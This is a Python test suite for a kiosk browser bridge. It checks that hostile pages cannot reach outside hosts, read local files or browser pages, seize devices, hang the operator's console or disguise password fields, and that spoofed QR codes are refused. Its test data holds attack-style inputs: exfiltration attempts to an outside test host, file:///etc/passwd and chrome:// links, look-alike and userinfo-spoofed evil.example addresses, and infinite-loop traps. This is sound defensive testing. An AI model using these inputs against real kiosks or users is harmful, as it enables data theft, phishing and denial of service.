"""Pages and papers that mean harm: a site of the menu that was taken over, a code that somebody has stuck over another."""

from __future__ import annotations

import asyncio
import os
import signal
from collections.abc import Coroutine
from contextlib import suppress
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import zxingcpp

from contact_center.errors import MadoguchiError, NotAllowed
from kiosk_bridge.booth.pages import MOST_WINDOWS
from kiosk_bridge.papers import NotAForm, read_form
from tests.desk.booth import OUTSIDE, Answer, Outside, Scene, play, until

FIELD = "<input id=name style='position:absolute;left:20px;top:20px;width:300px;height:40px'>"
BUTTON = (
    "<button style='position:absolute;left:20px;top:100px;width:200px;height:40px' onclick='pressed = 0; act(); pressed++'>x"
    "</button>"
)
"""Does what a test has put into `act`; whatever asks for a press has one."""

STAGE = FIELD + BUTTON
SOON = 10.0
"""Seconds in which somebody who stands there loses patience."""


async def does(on: Scene, act: str) -> None:
    """The resident presses the button, and the page does its trick."""
    await on.page(f"window.act = () => {{ {act} }}; window.pressed = window.said = undefined")
    await on.resident_presses(100, 120)


async def takes_a_press(on: Scene) -> None:
    """Whoever presses the page's field gets there: nothing stands before it."""
    await on.page("document.activeElement.blur()")
    await on.resident_presses(100, 40)
    await until(lambda: on.page("document.activeElement.id === 'name'"), SOON)


async def alone(on: Scene) -> None:
    """Close whatever windows came up, and open the menu's first page anew."""
    for window in on.booth.pages.order[1:]:
        await on.browser.devtools.send("Target.closeTarget", targetId=on.booth.pages.sessions[window].target)
    await until(lambda: len(on.booth.pages.order) == 1, SOON)
    await on.booth.pages.open(f"http://{on.site.host}/")
    await until(lambda: on.page("typeof pressed === 'undefined' && document.readyState === 'complete'"), SOON)


# -- ways out --------------------------------------------------------------------------------------------------------------

PAGES_OUT = {
    "an address": "location.href = there",
    "a redirect": "location.href = '/redirect'",
    "a redirect by itself": "location.href = '/refresh'",
    "a form": "const f = document.createElement('form'); f.action = there; f.innerHTML = '<input name=who value=hanako>';"
    " document.body.append(f); f.submit()",
    "a posted form in a new window": "const f = document.createElement('form'); Object.assign(f, { action: there, method: 'post',"
    " target: '_blank' }); document.body.append(f); f.submit()",
    "a window": "open(there)",
    "a link to a new window": "const a = document.createElement('a'); Object.assign(a, { href: there, target: '_blank' });"
    " document.body.append(a); a.click()",
    "a frame": "const f = document.createElement('iframe'); f.src = there; document.body.append(f)",
}


@pytest.mark.requirement("IZ-07")
def test_no_page_window_form_frame_or_redirect_leads_to_another_host_and_only_the_host_is_told() -> None:
    outside = Outside()
    there = f"http://{outside.host}/?who=hanako"

    async def scene(on: Scene) -> None:
        for how, act in PAGES_OUT.items():
            on.console.told.clear()
            await does(on, f"const there = '{there}'; {act}")
            await until(lambda: {"blocked": OUTSIDE} in on.console.told, SOON)
            assert "hanako" not in str(on.console.told), how
            await alone(on)

    more: dict[str, Answer] = {
        "/redirect": (302, {"Location": there}, ""),
        "/refresh": f"<meta http-equiv=refresh content='0;url={there}'>",
    }
    play(STAGE, scene, more=more)
    assert outside.came == []
    outside.close()


PARTS_OUT = {
    "fetch": "fetch(there, { mode: 'no-cors' }).then(came, refused)",
    "fetch that outlives its page": "fetch(there, { mode: 'no-cors', keepalive: true }).then(came, refused)",
    "fetch by a redirect": "fetch('/redirect').then(came, refused)",
    "image": "Object.assign(new Image(), { onload: came, onerror: refused }).src = there",
    "script": "adds('script', { src: there })",
    "style": "adds('link', { rel: 'stylesheet', href: there })",
    "fetched beforehand": "adds('link', { rel: 'prefetch', href: there })",
    "font": "new FontFace('f', `url(${there})`).load().then(came, refused)",
    "film": "Object.assign(document.createElement('video'), { onloadeddata: came, onerror: refused }).src = there",
    "events": "Object.assign(new EventSource(there), { onopen: came, onerror: refused })",
    "worker": "new Worker('/worker.js').onmessage = ({ data }) => done(data)",
    "shared worker": "new SharedWorker('/shared.js').port.onmessage = ({ data }) => done(data)",
    "service worker": "const all = navigator.serviceWorker; all.register('/service.js'); all.onmessage = ({ data }) => done(data)",
    "beacon": "done(navigator.sendBeacon(there, 'hanako') ? 'sent' : 'refused')",
}


def parts(there: str) -> tuple[str, dict[str, Answer]]:
    """A page that tries each of the ways, and what its workers are."""
    words = (
        "const done = (how) => (said[name] ??= how), came = () => done('came'), refused = () => done('refused');"
        " const adds = (tag, how) =>"
        " document.head.append(Object.assign(document.createElement(tag), how, { onload: came, onerror: refused }))"
    )
    tries = "\n".join(f"{{ const name = '{name}'; {words}; {act}; }}" for name, act in PARTS_OUT.items())
    rules = f'{{"prefetch": [{{"source": "list", "urls": ["{there}"]}}], "prerender": [{{"source": "list", "urls": ["{there}"]}}]}}'
    page = (
        f"<script type=speculationrules>{rules}</script><link rel=icon href='{there}'><object data='{there}'></object>"
        f"<a ping='{there}' href='#here'>x</a><script>const said = {{}}, there = '{there}';\n{tries}</script>"
    )
    tell = f"fetch('{there}', {{ mode: 'no-cors' }}).then(() => 'came', () => 'refused')"
    return page, {
        "/redirect": (302, {"Location": there}, ""),
        "/worker.js": f"{tell}.then(postMessage)",
        "/shared.js": f"onconnect = ({{ ports: [port] }}) => {tell}.then((how) => port.postMessage(how))",
        "/service.js": "oninstall = () => skipWaiting(); onactivate = (event) => event.waitUntil(clients.claim()"
        f".then(() => {tell}).then(async (how) => {{ for (const one of await clients.matchAll()) one.postMessage(how); }}))",
    }


@pytest.mark.requirement("IZ-07")
def test_nothing_that_a_page_or_its_workers_load_or_send_reaches_another_host() -> None:
    outside = Outside()
    page, more = parts(f"http://{outside.host}/?who=hanako")

    async def scene(on: Scene) -> None:
        await until(lambda: on.page(f"Object.keys(said).length === {len(PARTS_OUT)}"), SOON)

    play(page, scene, more=more)
    assert outside.came == []
    outside.close()


ANSWER = "then(() => window.said = 'came', () => window.said = 'refused')"
SOCKETS_OUT = {
    "websocket": "const s = new WebSocket(`ws://${stream}/?who=hanako`); s.onopen = () => window.said = 'came';"
    " s.onerror = () => window.said = 'refused'",
    "call": "const c = new RTCPeerConnection({ iceServers: [{ urls: `stun:${datagrams}` }] }); c.createDataChannel('x');"
    " c.onicegatheringstatechange = () => c.iceGatheringState === 'complete' && (window.said = 'gathered');"
    " c.createOffer().then((offer) => c.setLocalDescription(offer))",
    "transport": f"new WebTransport(`https://${{datagrams}}/hanako`).ready.{ANSWER}",
}


@pytest.mark.requirement("IZ-07")
@pytest.mark.parametrize("how", SOCKETS_OUT)
def test_no_socket_that_a_page_opens_reaches_another_host(how: str) -> None:
    outside = Outside()
    act = f"const stream = '{outside.host}', datagrams = '{outside.datagrams}'; {SOCKETS_OUT[how]}"

    async def scene(on: Scene) -> None:
        await does(on, act)
        await until(lambda: bool(outside.came) or on.page("window.said"), SOON)

    play(STAGE, scene)
    assert outside.came == []
    outside.close()


SCHEMES = (
    "file:///etc/passwd", "chrome://settings", "chrome-untrusted://terminal", "view-source:http://{host}/", "data:text/html,<h1>x",
    "filesystem:http://{host}/x", "devtools://devtools/bundled/inspector.html", "javascript:void(location = 'chrome://settings')",
)  # fmt: skip


@pytest.mark.requirement("IZ-07")
def test_no_link_leads_into_the_machine_or_the_browser_itself() -> None:
    async def scene(on: Scene) -> None:
        for scheme in SCHEMES:
            address = scheme.format(host=on.site.host)
            for act in ("location.href = there", "open(there)"):
                await does(on, f'const there = "{address}"; {act}')
                # A page of nothing may come up.
                await until(lambda: on.page("window.pressed === 1 || location.href.startsWith('about:blank')"), SOON)
                assert (await on.page("location.href")).split("#")[0] in (f"http://{on.site.host}/", "about:blank"), address
                assert await on.page("['', 'x'].includes(document.body.innerText)"), address
                await alone(on)

    play(STAGE, scene)


ADDRESSES = (
    "https://evil.example/", "http://{host}@evil.example/", "http://{host}.evil.example/", "http://evil.example\\@{host}/",
    "javascript:alert(1)", "file:///etc/passwd", "chrome://settings", "view-source:http://{host}/", "http://{host}:x/",
    "//evil.example/", "", "x", "https://xn--{host}/",
)  # fmt: skip


@pytest.mark.requirement("IZ-07")
def test_an_operator_opens_no_address_but_one_of_the_menus() -> None:
    async def scene(on: Scene) -> None:
        on.booth.grant()
        for address in (one.format(host=on.site.host) for one in ADDRESSES):
            on.console.told.clear()
            opened = False
            try:
                await on.booth.pages.open(address)
                opened = {"blocked": "evil.example"} not in on.console.told
            except MadoguchiError as error:
                assert "ページ" in error.sentence()
            assert not opened, address
            assert await on.page("location.host") == on.site.host

    play(STAGE, scene)


@pytest.mark.requirement("IZ-07")
@pytest.mark.parametrize("address", ["data:text/html,<label>暗証番号 <canvas></canvas></label>", "about:srcdoc", "blob:http://{host}/1"])
def test_an_operator_puts_no_page_of_their_own_before_the_resident(address: str) -> None:
    async def scene(on: Scene) -> None:
        on.booth.grant()
        with pytest.raises(MadoguchiError):
            await on.booth.pages.open(address.format(host=on.site.host))
        assert await on.page("location.host") == on.site.host

    play(STAGE, scene)


def test_an_address_that_is_none_is_refused_with_a_sentence() -> None:
    async def scene(on: Scene) -> None:
        with pytest.raises(MadoguchiError):
            await on.booth.pages.open("http://[")

    play(STAGE, scene)


# -- out of the browser ----------------------------------------------------------------------------------------------------


@pytest.mark.requirement("IZ-09", "NB-05")
@pytest.mark.parametrize(
    ("how", "address"), [("a link", "tel:0120950178"), ("a link", "mailto:city@example.jp"), ("a script", "mailto:city@example.jp")]
)
def test_what_is_meant_for_another_program_starts_none_and_leaves_the_page_usable(
    how: str, address: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    started = tmp_path / "started"
    tells = f'echo "$0 $*" >>{started}'
    for name, body in (("xdg-open", tells), ("xdg-email", tells), ("xdg-settings", "")):
        program = tmp_path / name
        program.write_text(f"#!/bin/sh\n{body}\n")
        program.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tmp_path}:{os.environ['PATH']}")

    async def scene(on: Scene) -> None:
        if how == "a script":
            await does(on, f"location.href = '{address}'")
        else:
            await on.resident_presses(100, 200)
        # Whatever would start, or ask, does so now.
        with suppress(AssertionError):
            await until(started.exists, 1.5)
        await takes_a_press(on)

    play(f"{STAGE}<a href='{address}' style='position:absolute;left:20px;top:180px;width:200px;height:40px'>x</a>", scene)
    assert not started.exists(), started.read_text()


@pytest.mark.requirement("IZ-09", "NB-03")
def test_a_download_writes_no_file_and_the_page_stays() -> None:
    found: list[Path] = []

    async def scene(on: Scene) -> None:
        for act in (
            "location.href = '/file'", "const a = document.createElement('a'); a.href = '/file'; a.download = 'x.pdf'; a.click()",
            "const a = document.createElement('a'); a.download = 'y.pdf'; a.href = URL.createObjectURL(new Blob(['x'])); a.click()",
        ):  # fmt: skip
            await does(on, act)
            await until(lambda: on.page("window.pressed === 1"), SOON)
            await takes_a_press(on)
        await until(lambda: on.site.asked.count("/file") == 2, SOON)
        assert await on.page("location.pathname") == "/"
        for place in (on.browser.folder, Path.home() / "Downloads"):
            found.extend(one for one in place.rglob("*") if one.suffix in (".pdf", ".crdownload"))

    play(STAGE, scene, more={"/file": (200, {"Content-Type": "application/pdf", "Content-Disposition": "attachment"}, "x")})
    assert found == []


@pytest.mark.requirement("IZ-07")
def test_a_page_takes_neither_the_whole_screen_nor_the_pointer_for_itself() -> None:
    async def scene(on: Scene) -> None:
        await does(on, f"document.documentElement.requestFullscreen().{ANSWER}")
        await until(lambda: on.page("window.said"), SOON)
        # The resident's key "end" stands on the strip of ours beside it.
        await until(lambda: on.page("document.fullscreenElement === null"), SOON)
        await does(on, f"document.body.requestPointerLock().{ANSWER}")
        await until(lambda: on.page("window.said && document.pointerLockElement === null"), SOON)
        await takes_a_press(on)

    play(STAGE, scene)


DEVICES = {
    "camera": "navigator.mediaDevices.getUserMedia({ video: true })",
    "microphone": "navigator.mediaDevices.getUserMedia({ audio: true })",
    "clipboard": "navigator.clipboard.readText()",
    "place": "new Promise((came, no) => navigator.geolocation.getCurrentPosition(came, no))",
    "notifications": "Notification.requestPermission().then((how) => how === 'granted' || Promise.reject())",
    "screens": "getScreenDetails()",
    "files": "showOpenFilePicker()",
    "folders": "showDirectoryPicker()",
}
DIALOGUES = {
    "the screen": "navigator.mediaDevices.getDisplayMedia({ video: true })",
    "a USB device": "navigator.usb.requestDevice({ filters: [] })",
    "a serial port": "navigator.serial.requestPort()",
    "a printer": "new Promise(() => print())",
}
FAKE_DEVICES = ("--use-fake-device-for-media-stream",)


@pytest.mark.requirement("IZ-07")
def test_a_page_is_given_neither_camera_nor_clipboard_nor_notifications() -> None:
    async def scene(on: Scene) -> None:
        given = []
        for name, asks in DEVICES.items():
            await does(on, f"(async () => {{ await {asks} }})().{ANSWER}")
            if await until(lambda: on.page("window.said"), SOON) == "came":
                given.append(name)
        assert given == []
        await takes_a_press(on)

    play(STAGE, scene, words=FAKE_DEVICES)


@pytest.mark.requirement("IZ-07")
@pytest.mark.parametrize("what", DIALOGUES)
def test_no_window_of_the_browsers_own_comes_between_a_resident_and_the_page(what: str) -> None:
    async def scene(on: Scene) -> None:
        await does(on, f"(async () => {{ await {DIALOGUES[what]} }})().catch(() => {{}})")
        await until(lambda: on.page("window.pressed === 1"), SOON)
        await takes_a_press(on)

    play(STAGE, scene, words=FAKE_DEVICES)


# -- pages that hold somebody up -------------------------------------------------------------------------------------------


def begun(work: Coroutine[Any, Any, None]) -> asyncio.Task[None]:
    """What the operator does, and may be waiting for when the browser ends."""
    task = asyncio.ensure_future(work)
    task.add_done_callback(lambda done: done.cancelled() or done.exception())
    return task


async def is_left(on: Scene) -> None:
    """The operator's key "first page" brings the menu's first page as it was."""
    opened, there = on.site.asked.count("/"), "document.readyState === 'complete' && !window.hostile"
    asked = begun(on.console.do("go", to="start"))
    done, _ = await asyncio.wait([asked], timeout=SOON)
    assert done, "the operator's hands are tied"
    await asked
    await until(lambda: on.site.asked.count("/") > opened and on.page(there), SOON)


HOLDS = {
    "does not want to be left": "onbeforeunload = (event) => { event.preventDefault(); return 'x' }",
    "asks box after box": "setTimeout(() => { for (;;) confirm('x'.repeat(1e5)) })",
    "hangs": "setTimeout(() => { for (;;); }, 50)",
    "hangs when it is left": "onbeforeunload = () => { for (;;); }",
}


@pytest.mark.parametrize("page", HOLDS)
def test_a_page_that_holds_somebody_up_is_left_by_the_menus_first_page(page: str) -> None:
    async def scene(on: Scene) -> None:
        await does(on, f"window.hostile = 1; {HOLDS[page]}")
        await until(lambda: on.booth.pages.boxes.open is not None or "box" not in page, SOON)
        on.booth.grant()
        await is_left(on)
        await takes_a_press(on)

    play(STAGE, scene)


@pytest.mark.requirement("IZ-09")
@pytest.mark.parametrize("page", HOLDS)
def test_a_page_that_holds_somebody_up_is_wiped_like_any_other(page: str) -> None:
    folders: list[Path] = []
    groups: list[int] = []

    async def scene(on: Scene) -> None:
        folders.append(on.browser.folder)
        groups.append(on.browser.pid)
        await does(on, f"window.hostile = 1; {HOLDS[page]}")

    play(STAGE, scene)
    assert not folders[0].exists() and renderers(groups[0]) == []


@pytest.mark.parametrize("page", ["hangs by the press", "opens window after window"])
def test_a_press_that_is_never_answered_does_not_tie_the_operators_hands(page: str) -> None:
    act = {"hangs by the press": "for (;;);", "opens window after window": "open('/')"}[page]

    async def scene(on: Scene) -> None:
        on.booth.grant()
        for _ in range(MOST_WINDOWS):
            await until(lambda: on.page("typeof pressed === 'undefined' && document.readyState === 'complete'"), SOON)
            await on.page(f"window.act = () => {{ window.hostile = 1; {act} }}")
            pressed = begun(on.console.click(100, 120))
            await asyncio.wait([pressed], timeout=1.0)
            if not pressed.done():
                break
        await is_left(on)
        assert len(on.booth.pages.order) <= MOST_WINDOWS
        await on.console.click(100, 40)
        await until(lambda: on.page("document.activeElement.id === 'name'"), SOON)

    play(STAGE, scene)


def test_boxes_are_told_one_at_a_time_cut_short_and_answered() -> None:
    async def scene(on: Scene) -> None:
        await does(on, "setTimeout(() => { for (let n = 0; n < 5; n++) alert(n + 'x'.repeat(1e6)); window.said = 'over' })")
        for n in range(5):
            await until(lambda n=n: any(str(one.get("box", "")).find(f"'{n}x") > 0 for one in on.console.told), SOON)
            on.booth.grant()
            await on.console.do("reply", accept=True)
        await until(lambda: on.page("window.said === 'over'"), SOON)
        assert max(len(str(one)) for one in on.console.told) < 700

    play(STAGE, scene)


def test_where_a_page_has_crashed_it_is_told_and_the_menus_first_page_brings_it_back() -> None:
    async def scene(on: Scene) -> None:
        on.booth.grant()
        await on.page("window.hostile = 1")
        for one in renderers(on.browser.pid):
            os.kill(one, signal.SIGKILL)
        await until(lambda: {"crashed": True} in on.console.told, SOON)
        await is_left(on)
        seen = on.console.pictures
        await takes_a_press(on)
        await until(lambda: on.console.pictures > seen, SOON)

    play(STAGE, scene)


def renderers(group: int) -> list[int]:
    """The processes of a browser in which its pages run."""
    found = []
    for words in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            mine = os.getpgid(int(words.parent.name)) == group
            if mine and b"--type=renderer" in words.read_bytes():
                found.append(int(words.parent.name))
        except OSError:
            continue
    return found


# -- pages that speak in another's name ------------------------------------------------------------------------------------


@pytest.mark.requirement("IZ-07")
def test_a_page_can_neither_speak_to_the_kiosk_nor_play_the_residents_touch() -> None:
    async def scene(on: Scene) -> None:
        on.booth.grant()
        assert await on.page("[typeof kioskSays, typeof kiosk, typeof kioskPad].join()") == "undefined,undefined,undefined"
        await on.page(
            "for (const one of [new PointerEvent('pointerdown', { bubbles: true }), new WheelEvent('wheel', { bubbles: true }),"
            " new KeyboardEvent('keydown', { key: 'a', bubbles: true })]) document.body.dispatchEvent(one)"
        )
        await on.page("location.href = '/?who=' + 'hanako'.repeat(1e4)")
        await until(lambda: on.page("location.search.length > 1e4 && document.readyState === 'complete'"), SOON)
        await on.page("document.title = 'x'.repeat(5e6)")
        await on.console.click(100, 40)
        await on.console.do("text", text="a")
        assert on.booth.control and await on.page("document.getElementById('name').value") == "a"
        said = str(on.console.told)
        assert len(said) < 2000 and "hanako" not in said

    play(STAGE, scene)


@pytest.mark.requirement("IZ-07")
@pytest.mark.parametrize("where", ["document", "window"])
def test_a_page_that_swallows_touches_does_not_keep_the_control_from_the_resident(where: str) -> None:
    async def scene(on: Scene) -> None:
        on.booth.grant()
        await on.resident_presses(500, 500)
        await until(lambda: not on.booth.control, SOON)
        with pytest.raises(NotAllowed):
            await on.console.do("text", text="b")

    kinds = "['pointerdown', 'mousedown', 'keydown', 'wheel', 'click']"
    swallow = f"for (const kind of {kinds}) {where}.addEventListener(kind, (event) => event.stopImmediatePropagation(), true)"
    play(f"{STAGE}<script>{swallow}</script>", scene)


PLACE = "style='position:absolute;left:20px;top:20px;width:300px;height:40px'"
IN_FRAME = "<input type=password style='width:99%;height:99%'>"
DISGUISES = {
    "hides the focus by a name": f"<img name=activeElement><form name=body></form><input id=q type=password {PLACE}>",
    "becomes a secret by the focus": f"<input id=q onfocus=\"this.type = 'password'\" {PLACE}>",
    "stays in the clear from the first key": f"<input id=q type=password oninput=\"this.type = 'text'\" {PLACE}>",
    "is no field at all": f"<div id=q contenteditable {PLACE[:-1]};-webkit-text-security:disc'></div>",
    "is masked by a rule that comes late": "<style>.late { -webkit-text-security: disc }</style>"
    f"<input id=q onfocus=\"className = 'late'\" {PLACE}>",
    "stands in a frame without an address": f'<iframe {PLACE} srcdoc="{IN_FRAME}"></iframe>',
    "stands in a frame of another world": f'<iframe sandbox {PLACE} src="data:text/html,{IN_FRAME}"></iframe>',
}


@pytest.mark.requirement("IZ-07", "IZ-13")
@pytest.mark.parametrize("field", DISGUISES)
def test_a_secret_that_is_disguised_is_still_the_residents_alone(field: str) -> None:
    async def scene(on: Scene) -> None:
        # The first press may only bring the focus into a frame.
        async def has_the_focus() -> bool:
            await on.resident_presses(100, 40)
            calm = await on.booth.pages.swear()
            return await on.page("!['', 'BODY'].includes(document.activeElement.tagName)") and (calm is None or calm < 0)

        await until(has_the_focus, SOON)
        await types(on, "7")
        on.booth.grant()
        seen = on.console.pictures
        with pytest.raises(NotAllowed):
            await on.console.do("text", text="9")
        assert on.console.pictures == seen and not await on.page("(document.getElementById('q')?.value ?? '').includes('9')")

    play(DISGUISES[field], scene)


async def types(on: Scene, text: str) -> None:
    top = on.booth.pages.shown
    assert top is not None
    for kind, more in (("keyDown", {"text": text}), ("keyUp", {})):
        await on.browser.devtools.send("Input.dispatchKeyEvent", top.id, type=kind, key=text, **more)


# -- codes on paper --------------------------------------------------------------------------------------------------------

HOSTS = ("apply.example",)
ID = "99991234567890123456789"
CODES = {
    "another host": f"https://apply.example.evil.example/?id={ID}",
    "another host behind a name": f"https://apply.example@evil.example/?id={ID}",
    "another host before a backslash": f"https://evil.example\\@apply.example/?id={ID}",
    "a name that looks alike": f"https://xn--pply-43d.example/?id={ID}",
    "a name that looks alike in letters": f"https://аpply.example/?id={ID}",
    "a script": f"javascript:alert('{ID}')//apply.example",
    "data": f"data:text/html,https://apply.example/?id={ID}",
    "no address": ID,
    "nothing of a host": f"https:///apply.example/?id={ID}",
    "another port": f"https://apply.example:8443/?id={ID}",
    "22 digits": f"https://apply.example/?id={ID[:-1]}",
    "24 digits": f"https://apply.example/?id={ID}0",
    "digits of another script": "https://apply.example/?id=" + ID.translate({ord("0") + n: ord("０") + n for n in range(10)}),
    "a very long one": f"https://apply.example/?note={'x' * 2000}&id={ID}0",
}


def photographed(code: str) -> np.ndarray:
    """A sheet with a code on it."""
    made = np.asarray(zxingcpp.create_barcode(code, zxingcpp.BarcodeFormat.QRCode).to_image(scale=4))
    paper = np.full((made.shape[0] + 80, made.shape[1] + 80, 3), 250, np.uint8)
    paper[40:-40, 40:-40] = made[..., None]
    return paper


@pytest.mark.requirement("IZ-11")
@pytest.mark.parametrize("code", CODES)
def test_a_hostile_code_under_the_camera_is_no_form(code: str) -> None:
    with pytest.raises(NotAForm) as refused:
        read_form(photographed(CODES[code]), HOSTS)
    assert refused.value.reason in ("other_host", "no_id")


def test_the_same_paper_with_a_good_code_is_a_form() -> None:
    assert read_form(photographed(f"https://apply.example/?note={'x' * 2000}&id={ID}"), HOSTS).id == ID
